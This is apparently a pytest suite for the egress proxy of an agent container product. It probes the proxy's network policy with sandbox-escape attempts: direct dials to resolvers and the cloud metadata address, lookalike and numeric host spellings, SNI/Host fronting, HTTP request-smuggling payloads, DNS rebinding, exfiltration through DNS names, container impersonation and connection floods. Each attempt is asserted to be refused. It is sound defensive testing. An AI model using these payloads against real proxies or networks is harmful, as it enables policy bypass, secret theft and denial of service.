"""N: to where a container may not go. The oracle is what reaches the servers outside."""
# ruff: noqa: E501 - programs that attack are data, and read better in one line

import json
import socket
import threading
import time
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskhand.egress.hosts import BadHost, normalise
from deskhand.egress.policy import matches, parse_domain

from ..conftest import launched
from ..egress.world import Issuer, World
from .canaries import Canaries
from .cases import case
from .conftest import product_settings
from .network import NEVER, VALUE, Networked, outside, settings, trusting
from .product import Product

pytestmark = pytest.mark.anyio


REACH: Final = """
import socket, sys
for words in sys.argv[1:]:
    kind, host, port = words.split(",")
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.connect((host, int(port)))
            s.send(b"canary")
        print("LEFT", words)
    except OSError as e:
        print("refused", words, e)
"""
DIRECT: Final = (
    "tcp,1.1.1.1,80", "tcp,1.1.1.1,443", "udp,1.1.1.1,443", "udp,8.8.8.8,53", "tcp,8.8.8.8,53", "tcp,1.1.1.1,853",
    "tcp,2606:4700:4700::1111,443", "udp,2001:4860:4860::8888,53", "tcp,169.254.169.254,80", "udp,224.0.0.251,5353",
    "udp,255.255.255.255,67", "udp,1.1.1.1,123",
)  # fmt: skip


@case("N01", "reach anything with network_policy absent, disabled or with an empty list: TCP, UDP, DNS, IPv4, IPv6",
      "nothing leaves; an empty list is refused")  # fmt: skip
def test_without_a_policy_nothing_leaves(net: Networked, canaries: Canaries) -> None:
    own = [f"tcp,{address.replace(':', ',')}" for address in (canaries.tcp.address, canaries.udp.address)]
    host = socket.gethostbyname(socket.gethostname())
    targets = " ".join([*own, *DIRECT, f"tcp,{host},{net.world.plain}"])
    since = len(net.world.seen)
    for container in (net.product.container(), net.product.container(network_policy={"type": "disabled"})):
        said = net.product.shell(
            f"cat > p.py <<'E'\n{REACH}\nE\npython3 p.py {targets}; env | grep -ci proxy", container
        )
        assert "LEFT" not in said.stdout
        assert said.stdout.count("refused tcp") + said.stdout.count("refused udp") == len(targets.split())
        look = (
            f"curl -sS -m 3 http://api.test:{net.world.plain}/; curl -sS -m 3 -x http://127.0.0.1:3128 http://api.test/"
        )
        assert net.product.shell(look, container).stderr.lower().count("could") >= 2
    with net.product.http() as client:
        empty = {"type": "allowlist", "allowed_domains": []}
        assert client.post("/v1/containers", json={"name": "x", "network_policy": empty}).status_code == 400
    assert net.visits(since) == []
    assert canaries.tcp.heard == canaries.udp.heard == []
    socket.create_connection(("127.0.0.1", int(canaries.tcp.address.split(":")[1]))).close()
    time.sleep(0.2)
    assert canaries.tcp.heard, "the control: the canary hears who comes"


@case(
    "N02",
    "a subdomain of an exact rule; the apex of a wildcard",
    "an exact rule is not for subdomains, `*.x` is not for `x`",
)
def test_a_rule_is_for_what_it_says(net: Networked) -> None:
    container = net.container(domains=["api.test", "*.wild.test"])
    since = len(net.world.seen)
    hosts = {"api.test": True, "sub.api.test": False, "a.wild.test": True, "wild.test": False}
    for host, allowed in hosts.items():
        said = net.shell(f"curl -sS -o /dev/null -w '%{{http_code}}' http://{host}:{net.world.plain}/{host}", container)
        assert said.stdout == ("200" if allowed else "403"), host
    assert net.visits(since) == ["/api.test", "/a.wild.test"]


SPELLINGS: Final = {
    "API.TEST": True, "api.test.": True, "Api.Test": True, "api.test@denied.test": False, "denied.test@api.test": None,
    "\u0430pi.test": False, "xn--pi-7kc.test": False, "2130706433": False, "0x7f000001": False, "017700000001": False,
    "127.1": False, "[::ffff:127.0.0.1]": False, "api.test%00.denied.test": False, "api.test%2edenied.test": False,
    "api\uff0etest": None, "api.test:80@denied.test": False,
}  # fmt: skip


@case("N03", "the same host in other spellings: case, trailing dot, IDN, userinfo, numbers for addresses",
      "one canonical form is matched; what has none is refused")  # fmt: skip
def test_spellings_are_one_or_none(net: Networked) -> None:
    container = net.container()
    since = len(net.world.seen)
    raw = f"""
import socket
for host in {list(SPELLINGS)!r}:
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as s:
        url = host + ":" + str(PLAIN)
        s.sendall(("GET http://" + url + "/ HTTP/1.1\\r\\nHost: " + url + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
        print(s.recv(4096).split(b" ")[1:2])
"""
    statuses = [line.strip("[]b'") for line in net.python(raw, container).stdout.splitlines()]
    assert len(statuses) == len(SPELLINGS)
    for (host, allowed), status in zip(SPELLINGS.items(), statuses, strict=True):
        if allowed is not None:
            assert (status == "200") is allowed, (host, status)
    assert all(seen["host"].startswith("api.test") for seen in net.world.seen[since:])
    assert len(net.world.seen) - since >= 3


@case("N04", "dial without the proxy: TCP, UDP, QUIC, DNS, DoT, multicast, raw", "there is no route")
def test_there_is_no_way_but_the_proxy(net: Networked, canaries: Canaries) -> None:
    container = net.container()
    since = len(net.world.seen)
    targets = [*DIRECT, f"tcp,127.0.0.1,{net.world.plain}", f"udp,{canaries.udp.address.replace(':', ',')}"]
    said = net.shell(f"cat > p.py <<'E'\n{REACH}\nE\npython3 p.py {' '.join(targets)}", container)
    assert [line for line in said.stdout.splitlines() if line.startswith("LEFT") and "udp,127" not in line] == []
    unset = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u all_proxy -u ALL_PROXY"
    net.shell(f"{unset} curl -sS -m 3 http://api.test:{net.world.plain}/direct", container)
    assert net.visits(since) == []
    assert canaries.udp.heard == []
    net.shell(f"curl -sS http://api.test:{net.world.plain}/control", container)
    assert net.visits(since) == ["/control"]


@case(
    "N05", "the address of an allowed host; --resolve; a spoofed /etc/hosts", "only names are rules; the proxy resolves"
)
def test_a_name_is_resolved_by_the_proxy_alone(net: Networked) -> None:
    container = net.container(domains=["api.test"])
    since = len(net.world.seen)
    port = net.world.tls
    for attempt in (
        f"curl -sS -k -m 5 https://127.0.0.1:{port}/a -H 'Host: api.test:{port}'",
        f"curl -sS -k -m 5 --resolve denied.test:{port}:127.0.0.1 https://denied.test:{port}/b",
        f"curl -sS -k -m 5 --connect-to denied.test:{port}:api.test:{port} https://denied.test:{port}/c",
        f"echo '127.0.0.1 denied.test' >> /etc/hosts; curl -sS -m 5 https://denied.test:{port}/d",
    ):
        net.shell(attempt, container)
    assert net.visits(since) == []
    good = net.shell(f"curl -sS -m 5 --resolve api.test:{port}:10.0.0.1 https://api.test:{port}/good", container)
    assert "good" in good.stdout
    assert net.visits(since) == ["/good"]


TLS: Final = """
import socket, ssl
def attempt(connect, sni, host, path):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(f"CONNECT {connect}:{TLS} HTTP/1.1\\r\\nHost: {connect}:{TLS}\\r\\n\\r\\n".encode())
    if b" 200 " not in s.recv(4096):
        return "connect refused"
    context = ssl.create_default_context()
    context.check_hostname = False
    try:
        t = context.wrap_socket(s, server_hostname=sni)
        t.sendall(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
        return t.recv(4096).split(b" ")[1].decode()
    except (OSError, IndexError) as e:
        return "tls refused"
print(attempt("api.test", "api.test", f"api.test:{TLS}", "/good"))
print(attempt("api.test", "denied.test", f"denied.test:{TLS}", "/1"))
print(attempt("api.test", "api.test", f"denied.test:{TLS}", "/2"))
print(attempt("api.test", "api.test", f"other.test:{TLS}", "/3"))
print(attempt("api.test", "other.test", f"other.test:{TLS}", "/4"))
print(attempt("api.test", None, f"api.test:{TLS}", "/5"))
print(attempt("api.test", "api.test", "api.test:1", "/6"))
print(attempt("denied.test", "api.test", f"api.test:{TLS}", "/7"))
print(attempt("api.test", "api.test", f"api.test:{TLS}", f"http://denied.test:{TLS}/8"))
print(attempt("api.test", "api.test", f"api.test:{TLS}\\r\\nHost: denied.test", "/9"))
"""


@case("N06", "CONNECT, SNI and Host that name different hosts; no SNI; two Hosts; an absolute URL in a tunnel",
      "refused; domain fronting is impossible")  # fmt: skip
def test_three_names_must_be_one(net: Networked) -> None:
    since = len(net.world.seen)
    said = net.python(TLS)
    answers = said.stdout.split("\n")[:10]
    assert answers[0] == "200", said.stderr
    assert all(answer in ("connect refused", "tls refused", "421", "400", "403") for answer in answers[1:]), answers
    assert net.visits(since) == ["/good"]


RAW: Final = """
import socket
def raw(data):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as s:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        got = b""
        try:
            while piece := s.recv(4096):
                got += piece
        except OSError:
            pass
        return got.split(b" ")[1].decode() if got.startswith(b"HTTP/") else "closed"
"""
ODD_HOSTS: Final = (
    b"api.test\0.denied.test", b"denied.test\0.api.test", b"api.test\r\nX: 1", b"api.test denied.test", b"api.test\t",
    b"api.test%00", b"a" * 300 + b".test", b"api.test/../denied.test", b"api.test#denied.test", b"api.test?denied.test",
    b"api..test", b".api.test", b"api.test:443:443", b"api.test:-1", b"api.test:99999999", b"[api.test]", b"\xff\xfe",
    b"", b"*", b"*.test",
)  # fmt: skip


@case("N07", "host names with NUL, line breaks, blanks, percent signs, 300 bytes, through CONNECT and absolute URLs",
      "400 or closed; nothing is dialled")  # fmt: skip
def test_odd_host_names_are_refused(net: Networked) -> None:
    since = len(net.world.seen)
    script = (
        RAW
        + f"""
for host in {list(ODD_HOSTS)!r}:
    port = str(PLAIN).encode()
    print(raw(b"CONNECT " + host + b":" + port + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"),
          raw(b"GET http://" + host + b":" + port + b"/odd HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n"))
print(raw(b"GET http://api.test:" + str(PLAIN).encode() + b"/good HTTP/1.1\\r\\nHost: api.test:" + str(PLAIN).encode() + b"\\r\\n\\r\\n"))
"""
    )
    answers = net.python(script).stdout.split()
    assert answers[-1] == "200"
    assert set(answers[:-1]) <= {"400", "403", "421", "closed", "431"}, answers
    assert net.visits(since) == ["/good"]


@case("N08", "names that end or begin like an allowed one", "denied")
def test_a_name_that_looks_like_an_allowed_one_is_another(net: Networked) -> None:
    container = net.container(domains=["api.test", "*.wild.test"])
    since = len(net.world.seen)
    hosts = [
        "evilapi.test",
        "api.test.evil.test",
        "evilwild.test",
        "wild.test.evil.test",
        "api-test.test",
        "api.tes",
        "pi.test",
    ]
    script = "; ".join(f"curl -sS -o /dev/null -w '%{{http_code}} ' http://{host}:{net.world.plain}/" for host in hosts)
    assert net.shell(script, container).stdout.split() == ["403"] * len(hosts)
    assert net.visits(since) == []


LABELS: Final = st.text("abcxyz019-_\u00e9\u0430\u212a\uff0e\u3002.A \0%", min_size=1, max_size=20)


@case("N09", "any text as a host against any rule", "one canonical form, matched as a whole; no text means two hosts")
@given(LABELS, st.sampled_from(["api.test", "*.wild.test", "xn--pi-7kc.test"]))
def test_the_matcher_has_one_form(text: str, domain: str) -> None:
    rule = parse_domain(domain)
    for candidate in (text, f"{text}.wild.test", f"{text}api.test", f"api.test{text}"):
        try:
            host = normalise(candidate)
        except BadHost:
            continue
        assert normalise(host) == host
        assert host.isascii()
        assert not set(host) & set(" \0/%@?#\\\r\n\t")
        if matches(rule, host):
            assert host == rule or (rule.startswith("*.") and host.endswith(rule[1:]) and host != rule[2:])


SMUGGLED: Final = (
    b"POST http://H/1 HTTP/1.1\r\nHost: H\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
    b"POST http://H/2 HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    b"POST http://H/3 HTTP/1.1\r\nHost: H\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\nabcGET /evil HTTP/1.1\r\n\r\n",
    b"GET http://H/4 HTTP/1.1\nHost: H\n\nGET http://denied.test/evil HTTP/1.1\nHost: denied.test\n\n",
    b"POST http://H/5 HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\n5;x=\r\nGET /evil HTTP/1.1\r\n\r\n",
    b"GET http://H/6 HTTP/1.1\r\nHost: H\r\nX: " + b"y" * 70_000 + b"\r\n\r\n",
    b"GET http://H/7 HTTP/1.1\r\nHost: H\r\n: nothing\r\n\r\n",
    b"GET http://H/8 HTTP/1.1\r\nHost: H\r\nX: a\r\n b: c\r\nTransfer-Encoding : chunked\r\n\r\n",
    b"GET http://H/9 HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
    b"GET http://H/10 HTTP/1.1\r\nHost: H\r\nContent-Length: +5\r\n\r\nabcde",
    b"GET http://H/11 HTTP/1.1\r\nHost: H\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
)  # fmt: skip


@case("N10", "two lengths, bare line feeds, odd chunks, folded and endless headers, h2c: requests that hide another",
      "400 and closed, or one clean request outside")  # fmt: skip
def test_no_request_hides_another(net: Networked) -> None:
    since = len(net.world.seen)
    script = (
        RAW
        + f"""
for data in {list(SMUGGLED)!r}:
    print(raw(data.replace(b"H/", b"api.test:%d/" % PLAIN).replace(b"Host: H", b"Host: api.test:%d" % PLAIN)))
"""
    )
    answers = net.python(script).stdout.split()
    assert len(answers) == len(SMUGGLED)
    assert "evil" not in " ".join(net.visits(since))
    for seen in net.world.seen[since:]:
        assert not ("transfer-encoding" in seen and "content-length" in seen)
        assert seen["host"] == f"api.test:{net.world.plain}"
        assert "upgrade" not in seen


@case("N11", "CONNECT and GET to ports 22, 25, 53, 3306, 6379 of an allowed name", "only the allowed ports")
def test_only_allowed_ports_are_dialled(net: Networked) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.5)
        ports = [22, 25, 53, 3306, 6379, listener.getsockname()[1]]
        script = (
            RAW
            + f"""
for port in {ports}:
    print(raw(b"CONNECT api.test:%d HTTP/1.1\\r\\nHost: api.test:%d\\r\\n\\r\\nhello" % (port, port)),
          raw(b"GET http://api.test:%d/ HTTP/1.1\\r\\nHost: api.test:%d\\r\\n\\r\\n" % (port, port)))
print(raw(b"GET http://api.test:%d/good HTTP/1.1\\r\\nHost: api.test:%d\\r\\n\\r\\n" % (PLAIN, PLAIN)))
"""
        )
        answers = net.python(script).stdout.split()
        assert answers == ["403"] * 2 * len(ports) + ["200"]
        with pytest.raises(TimeoutError):
            listener.accept()


@case("N12", "the metadata services of clouds, listed by the operator by mistake", "refused whatever is listed")
@case("N13", "loopback, private, shared, link-local, multicast and mapped addresses, listed by mistake", "refused")
def test_addresses_that_are_not_public_are_never_dialled(net: Networked) -> None:
    policy = {"type": "allowlist", "allowed_domains": list(NEVER)}
    with net.product.http() as client:
        made = client.post("/v1/containers", json={"name": "x", "network_policy": policy})
    if made.status_code == 400:
        assert any(address in made.text for address in NEVER)
        container = net.container()
    else:
        container = made.json()["id"]
    since = len(net.world.seen)
    shown = [f"[{address}]" if ":" in address else address for address in NEVER]
    script = (
        RAW
        + f"""
for host in {shown!r}:
    for port in (80, 443, PLAIN):
        print(raw(b"GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % (host.encode(), port, host.encode(), port)),
              raw(b"CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % ((host.encode(), port) * 2)))
"""
    )
    answers = net.python(script, container).stdout.split()
    assert len(answers) == len(NEVER) * 6
    assert set(answers) <= {"403", "400", "200", "closed"}
    assert net.visits(since) == []


@case(
    "N14",
    "an allowed name that resolves to a private address, at once or when it is asked again",
    "the checked address is the dialled one",
)
async def test_a_rebound_name_leads_nowhere(world: World) -> None:
    port = world.plain.port
    for addresses in (["127.0.0.1"], ["10.0.0.1"], ["::1"], ["::ffff:127.0.0.1"], ["64:ff9b::7f00:1"], ["2002:7f00:1::"],
                      ["8.8.8.8", "127.0.0.1"], ["169.254.169.254"], ["fe80::1"], ["0.0.0.0"]):  # fmt: skip
        world.names["rebound.test"] = addresses
        got = await world.raw(f"GET http://rebound.test:{port}/ HTTP/1.1\r\nHost: rebound.test:{port}\r\n\r\n".encode())
        assert got.split(b" ")[1] == b"403", addresses
    assert world.plain.connections == 0
    world.names["rebound.test"] = ["127.0.0.1"]
    world.private.add("rebound.test")  # the control: the operator lets this one be private
    request = f"GET http://rebound.test:{port}/ HTTP/1.1\r\nHost: rebound.test:{port}\r\nConnection: close\r\n\r\n"
    assert b" 200 " in await world.raw(request.encode())
    assert world.resolved.count("rebound.test") == 11, "resolved once for each connection"


@case("N15", "a redirect from an allowed host to a forbidden one", "the second request is judged again")
def test_a_redirect_is_judged_again(net: Networked) -> None:
    since = len(net.world.seen)
    target = f"http://denied.test:{net.world.plain}/stolen"
    said = net.shell(
        f"curl -sSL -o /dev/null -w '%{{http_code}}' 'http://api.test:{net.world.plain}/redirect?{target}'"
    )
    assert said.stdout == "403"
    assert [path.partition("?")[0] for path in net.visits(since)] == ["/redirect"]
    good = f"http://other.test:{net.world.plain}/followed"
    net.shell(f"curl -sSL 'http://api.test:{net.world.plain}/redirect?{good}'")
    assert net.visits(since)[-1] == "/followed"


@case("N17", "no TLS behind CONNECT to 443, an endless handshake", "refused, and the place is free again")
async def test_only_tls_goes_through_a_tunnel_for_it(world: World) -> None:
    tunnel = await world.connect("ok.test:443")
    tunnel.writer.write(b"SSH-2.0-canary\r\n" * 10)
    assert await tunnel.reader.read() == b""
    assert world.tls.connections == world.plain.connections == 0
    assert (await world.get("/")).status == 200


@case("N18", "QUIC, DNS over TLS, mDNS, NTP, DHCP: UDP and ports beside the proxy", "there is no route")
@case("N22", "ask a resolver directly, by UDP and TCP 53, at any address", "there is no route")
def test_no_other_protocol_leaves(net: Networked) -> None:
    said = net.shell(f"cat > p.py <<'E'\n{REACH}\nE\npython3 p.py {' '.join(DIRECT)}")
    assert said.stdout.count("refused tcp") + said.stdout.count("refused udp") == len(DIRECT)
    assert "LEFT" not in said.stdout


@case("N20", "carry data out in names: denied names, long labels, TXT, through the resolver and the proxy",
      "nothing is resolved for a name that is not allowed")  # fmt: skip
async def test_a_denied_name_is_never_resolved(world: World) -> None:
    for name in ("secret-data.evil.test", "a" * 60 + "." + "b" * 60 + ".evil.test", "secret.ok.test", "x.rebound.test"):
        assert (await world.connect(f"{name}:443")).answer.status in (400, 403)
        got = await world.raw(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        assert got.split(b" ")[1] in (b"400", b"403")
    assert world.resolved == []
    world.names["rebound.test"] = ["10.0.0.1"]
    await world.connect("rebound.test:443")
    await world.raw(b"GET http://rebound.test/ HTTP/1.1\r\nHost: rebound.test\r\n\r\n")
    assert set(world.resolved) == {"rebound.test"}, "the control: an allowed name is resolved"


@case("N20", "ask for names inside the container", "no resolver answers")
def test_there_is_no_resolver_inside(net: Networked) -> None:
    names = ["secret.evil.test", "example.com", "api.test", "localhost.evil.test"]
    script = f"import socket\nfor n in {names}:\n    try: print('RESOLVED', socket.getaddrinfo(n, 80))\n    except OSError: print('unknown')"
    assert net.python(script).stdout.split() == ["unknown"] * len(names)


@case("N24", "keep a tunnel open while its container ends", "it is cut at once")
def test_open_tunnels_end_with_their_container(net: Networked) -> None:
    container = net.container()
    loop = f"curl -sS https://api.test:{net.world.tls}/slow > /dev/null 2>&1 & sleep 1; echo begun"
    before = len(net.world.cut)
    assert "begun" in net.shell(loop, container).stdout
    assert len(net.world.cut) == before
    with net.product.http() as client:
        client.delete(f"/v1/containers/{container}")
    for _ in range(60):
        if len(net.world.cut) > before:
            break
        time.sleep(0.1)
    assert len(net.world.cut) == before + 1


@case("N25", "a policy that goes beyond the operator's list", "400 that names the domain, before anything is made")
def test_a_policy_cannot_widen_the_operators(net: Networked) -> None:
    with net.product.http("b") as client:
        before = client.get("/v1/containers").text
        for domains in (["denied.test"], ["api.test", "evil.test"], ["*.api.test"], ["*.test"], ["*"], ["wild.test"]):
            policy = {"type": "allowlist", "allowed_domains": domains}
            for body in (
                {"name": "x", "network_policy": policy},
                {"model": "m", "input": "@@ shell id", "tools": [{"type": "shell", "environment": {"type": "container_auto",
                 "network_policy": policy}}]},
            ):  # fmt: skip
                answer = client.post("/v1/containers" if "name" in body else "/v1/responses", json=body)
                assert answer.status_code == 400, domains
                assert domains[-1] in answer.text
        assert client.get("/v1/containers").text == before
        good = {"type": "allowlist", "allowed_domains": ["api.test", "a.wild.test", "*.wild.test"]}
        made = client.post("/v1/containers", json={"name": "x", "network_policy": good})
        assert made.status_code == 200, made.text


@case(
    "N26",
    "widen a policy by restarting the server, by a fork, by restoring a snapshot",
    "the same policy; a fork has no secrets",
)
def test_a_policy_survives_and_never_widens(
    engine_name: str, upstream_url: str, issuer: Issuer, tmp_path: Path
) -> None:
    with outside(issuer) as servers, trusting(issuer, tmp_path):
        given = product_settings(tmp_path, engine_name) | settings(servers)
        probe = (f"curl -sS -o /dev/null -w '%{{http_code}} ' http://api.test:{servers.plain}/; "
                 f"curl -sS -o /dev/null -w '%{{http_code}} ' http://other.test:{servers.plain}/; "
                 "test -n \"$API_KEY\" && echo secret")  # fmt: skip
        with launched(tmp_path / "data", upstream_url, **given) as first:
            net = Networked(Product(first, engine_name), servers)
            container = net.container(domains=["api.test"])
            assert net.shell(probe, container).stdout.split() == ["200", "403", "secret"]
            first.process.kill()
            first.process.wait()
            with launched(tmp_path / "data", upstream_url, **given) as second:
                net = Networked(Product(second, engine_name), servers)
                assert net.shell(probe, container).stdout.split() == ["200", "403", "secret"]
                with net.product.http() as client:
                    made = client.post(f"/v1/containers/{container}/fork", json={}).json()
                    kept = client.post(f"/v1/containers/{container}/snapshots", json={}).json()
                    assert (
                        client.post(f"/v1/containers/{container}/restore", json={"snapshot_id": kept["id"]}).status_code
                        == 200
                    )
                    new = client.post("/v1/containers", json={"name": "x", "snapshot_id": kept["id"]}).json()
                assert net.shell(probe, made["id"]).stdout.split() == ["200", "403"]
                assert net.shell(probe, container).stdout.split() == ["200", "403", "secret"]
                assert (
                    "200" not in net.shell(probe, new["id"]).stdout
                    or "secret" not in net.shell(probe, new["id"]).stdout
                )


@case("N27", "hundreds of idle connections to the proxy", "a bound for each container; others are served")
def test_idle_connections_are_bounded(net: Networked) -> None:
    one, two = net.container(), net.container()
    hog = """
import socket, time
held = []
for _ in range(600):
    try:
        held.append(socket.create_connection(("127.0.0.1", 3128), timeout=2))
    except OSError:
        break
print(len(held), flush=True)
time.sleep(6)
"""
    taking = threading.Thread(target=net.python, args=(hog, one))
    taking.start()
    time.sleep(2)
    said = net.shell(f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://api.test:{net.world.plain}/", two)
    assert said.stdout == "200"
    assert len(list(Path(f"/proc/{net.product.server.process.pid}/fd").iterdir())) < 700
    taking.join()
    said = net.shell(f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://api.test:{net.world.plain}/", one)
    assert said.stdout == "200"


@case("N28", "reach what listens in a container, from the host and from another container", "refused")
def test_nothing_that_listens_inside_can_be_reached(net: Networked) -> None:
    port = 18099
    container = net.container()
    listen = f"cd /tmp; setsid -f python3 -m http.server --bind 0.0.0.0 {port} > /dev/null 2>&1; sleep 1; "
    look = f"python3 -c \"import socket; print(socket.socket().connect_ex(('127.0.0.1', {port})))\""
    assert net.shell(listen + look, container).stdout == "0\n"
    assert net.shell(look).stdout == "111\n"
    for host in ("127.0.0.1", socket.gethostbyname(socket.gethostname())):
        with socket.socket() as probe:
            probe.settimeout(2)
            assert probe.connect_ex((host, port)) != 0


@case("N30", "pretend to be another container towards the proxy: headers, credentials, its secret's placeholder",
      "who asks is known by the socket; nothing of another is used")  # fmt: skip
def test_a_container_cannot_be_another(net: Networked) -> None:
    rich, poor = net.container(domains=["api.test", "other.test"]), net.container(domains=["other.test"])
    placeholder = net.shell('printf %s "$API_KEY"', rich).stdout
    assert placeholder
    since = len(net.world.seen)
    script = (
        RAW
        + f"""
for extra in ("Proxy-Authorization: Basic {rich}", "X-Deskhand-Container: {rich}", "X-Forwarded-For: 127.0.0.1", "Forwarded: for={rich}"):
    print(raw(f"GET http://api.test:{{PLAIN}}/stolen HTTP/1.1\\r\\nHost: api.test:{{PLAIN}}\\r\\n{{extra}}\\r\\n\\r\\n".encode()))
"""
    )
    assert net.python(script, poor).stdout.split() == ["403"] * 4
    net.shell(f"curl -sS -H 'Authorization: Bearer {placeholder}' https://other.test:{net.world.tls}/literal", poor)
    assert net.visits(since) in (["/literal"], [])
    assert VALUE not in json.dumps(net.world.seen[since:])
    net.shell(f'curl -sS -H "Authorization: Bearer {placeholder}" https://api.test:{net.world.tls}/mine', rich)
    assert net.world.seen[-1]["authorization"] == f"Bearer {VALUE}"


@case("N31", "have the agent's own relay do work for nobody: thousands of half-open and aborted connections",
      "commands are answered meanwhile")  # fmt: skip
def test_the_relay_does_not_hold_up_commands(net: Networked) -> None:
    container = net.container()
    storm = """
import socket, struct, time
end = time.monotonic() + 5
while time.monotonic() < end:
    for _ in range(50):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            s.connect(("127.0.0.1", 3128)); s.send(b"G")
        except OSError: pass
        s.close()
"""
    storming = threading.Thread(target=net.python, args=(storm, container))
    storming.start()
    time.sleep(1)
    for n in range(5):
        assert net.shell(f"echo {n}", container).stdout == f"{n}\n"
    storming.join()
